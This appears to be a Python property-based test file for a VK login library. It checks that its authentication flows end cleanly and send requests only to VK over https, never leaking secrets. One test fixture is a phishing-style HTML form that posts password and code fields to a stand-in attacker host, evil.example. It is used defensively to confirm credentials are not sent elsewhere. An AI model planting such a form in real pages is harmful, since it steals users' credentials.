"""Whatever pages come, in whatever order: a flow ends in its result or an ``AuthError``, and tells VK alone."""

from __future__ import annotations

from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from saved_pages import saved_pages
from yarl import URL

from vkauth.errors import AuthError
from vkauth.flows.implicit import ImplicitOptions, implicit_groups, implicit_user
from vkauth.flows.steps import Accepted, AskCaptcha, AskCode, Flow, Forget, Send
from vkauth.flows.verification import Verified, verify
from vkauth.flows.vkid import Application
from vkauth.models import GroupTokens, UserToken
from vkauth.wire.http import get

from .drive import PASSED, PERSON, TYPED, Reply, api, api_error, context, data, page, saved, to

OPTIONS = ImplicitOptions(
    person=PERSON, application=Application(client_id="6000001", scope="65538", device_id="d1"), group_ids=(200001,)
)
ANSWERS = [
    *[saved(each.name) for each in saved_pages()],
    to("https://m.vk.ru/login?act=authcheck"),
    to("https://m.vk.ru/login?act=security_check"),
    to("https://oauth.vk.ru/blank.html#access_token=vk1.a.SAMPLE&access_token_200001=vk1.a.SAMPLE"),
    to("https://id.vk.com/auth?return_auth_hash=0a"),
    api({"sid": "s", "next_step": {"verification_method": "sms", "has_another_verification_methods": True}}),
    api({"sid": "s"}),
    api({"methods": [{"name": "codegen"}]}),
    api({"access_token": "vk1.a.SAMPLE"}),
    api_error(14, redirect_uri="https://id.vk.ru/not_robot_captcha"),
    api_error(1110),
    data({"type": "okay", "data": {}}),
    data({"type": "captcha", "captcha_sid": "1"}),
    data({"type": "error", "error_info": "unauthorized"}),
    page("<form action=https://evil.example><input name=pass><input name=code></form>"),
    Reply(),
]
MOST_STEPS = 60


def flows() -> list[Flow[Any]]:
    """One of each way in."""
    start = get(URL("https://m.vk.ru/activation?act=validate"))
    return [implicit_user(context(), OPTIONS), implicit_groups(context(), OPTIONS), verify(context(), PERSON, start)]


def check(request: Send) -> None:
    """What is sent goes to VK over https, and no secret is in its address."""
    url = request.request.url
    assert context().endpoints.locate(url) is not None
    assert url.scheme == "https"
    for secret in ("SAMPLE_password", "SAMPLE_text", "SAMPLE_success", "987654"):
        assert secret not in str(url)


def end_of(flow: Flow[Any], answers: list[Reply]) -> Any:
    """What a flow ends in: its result, its error, or nothing yet."""
    back: Any = None
    try:
        for answer in answers:
            step = flow.send(back)
            match step:
                case Send():
                    check(step)
                    back = answer.to(step.request)
                case AskCaptcha(prompt):
                    back = PASSED if prompt.kind == "redirect" else TYPED
                case AskCode():
                    back = "987654"
                case Accepted() | Forget():
                    back = None
    except StopIteration as end:
        return end.value
    except AuthError as error:
        return error
    finally:
        flow.close()
    return None


@given(st.sampled_from(range(3)), st.lists(st.sampled_from(ANSWERS), min_size=MOST_STEPS, max_size=MOST_STEPS))
@settings(max_examples=300)
def test_any_pages_in_any_order(which: int, answers: list[Reply]) -> None:
    """No sequence of pages makes a flow fail in any other way, or send anything elsewhere."""
    end = end_of(flows()[which], answers)
    assert isinstance(end, (UserToken, GroupTokens, Verified)[which] | AuthError | None)
    assert "SAMPLE" not in f"{end} {end!r}"
